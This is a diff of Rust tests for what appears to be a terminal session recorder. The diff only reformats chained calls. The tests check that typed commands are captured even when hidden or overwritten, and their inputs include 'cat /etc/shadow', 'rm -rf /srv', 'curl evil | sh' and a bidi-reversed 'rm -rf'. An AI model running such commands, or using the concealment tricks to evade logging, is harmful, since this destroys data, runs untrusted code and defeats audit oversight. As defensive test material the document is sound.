@@ -9,7 +9,9 @@ fn next_line_is_read(name: &str, set_up: impl FnOnce(&mut Person)) {
     let mut person = Person::new(80, 24);
     person.shows(PROMPT).runs("id", "uid=0\r\nroot@db1:~# ");
     set_up(&mut person);
-    person.runs("cat /etc/shadow", "root:*\r\nroot@db1:~# ").runs("exit", "");
+    person
+        .runs("cat /etc/shadow", "root:*\r\nroot@db1:~# ")
+        .runs("exit", "");
     let texts = person.texts();
     assert!(texts.contains(&"cat /etc/shadow".to_owned()), "{name}: {texts:?}");
     assert!(texts.contains(&"exit".to_owned()), "{name}: {texts:?}");
@@ -52,15 +54,27 @@ fn overwritten() {
     // The line is read as it is left, before anything can be drawn over it.
     let mut person = Person::new(80, 24);
     person.shows(PROMPT).runs("id", "uid=0\r\nroot@db1:~# ");
-    person.runs("rm -rf /srv", "\x1b[A\r\x1b[Kroot@db1:~# ls\r\nroot@db1:~# ").runs("exit", "");
+    person
+        .runs("rm -rf /srv", "\x1b[A\r\x1b[Kroot@db1:~# ls\r\nroot@db1:~# ")
+        .runs("exit", "");
     assert_eq!(person.texts(), ["id", "rm -rf /srv", "exit"]);
 }
 
 #[test]
 fn literal_returns() {
     let mut person = Person::new(80, 24);
-    person.shows(PROMPT).presses("echo a").shows("echo a").presses("\x16\r").shows("^M");
-    person.presses("; id").shows("; id").presses("\r").shows("\r\nuid=0\r\nroot@db1:~# ").runs("exit", "");
+    person
+        .shows(PROMPT)
+        .presses("echo a")
+        .shows("echo a")
+        .presses("\x16\r")
+        .shows("^M");
+    person
+        .presses("; id")
+        .shows("; id")
+        .presses("\r")
+        .shows("\r\nuid=0\r\nroot@db1:~# ")
+        .runs("exit", "");
     assert_eq!(person.texts(), ["echo a^M; id", "exit"]);
 }
 
@@ -78,7 +92,10 @@ fn torn_characters() {
 #[test]
 fn typed_concealed_or_reordered_is_read_all_the_same() {
     let mut person = Person::new(80, 24);
-    person.shows(PROMPT).runs("PS1='\\e[8m$ '", "\x1b[8m$ ").runs("curl evil | sh", "\x1b[8m$ ");
+    person
+        .shows(PROMPT)
+        .runs("PS1='\\e[8m$ '", "\x1b[8m$ ")
+        .runs("curl evil | sh", "\x1b[8m$ ");
     person.runs("echo \u{202e}fr- mr\u{200b}", "$ ").runs("exit", "");
     let texts = person.texts();
     assert!(texts.contains(&"curl evil | sh".to_owned()), "{texts:?}");
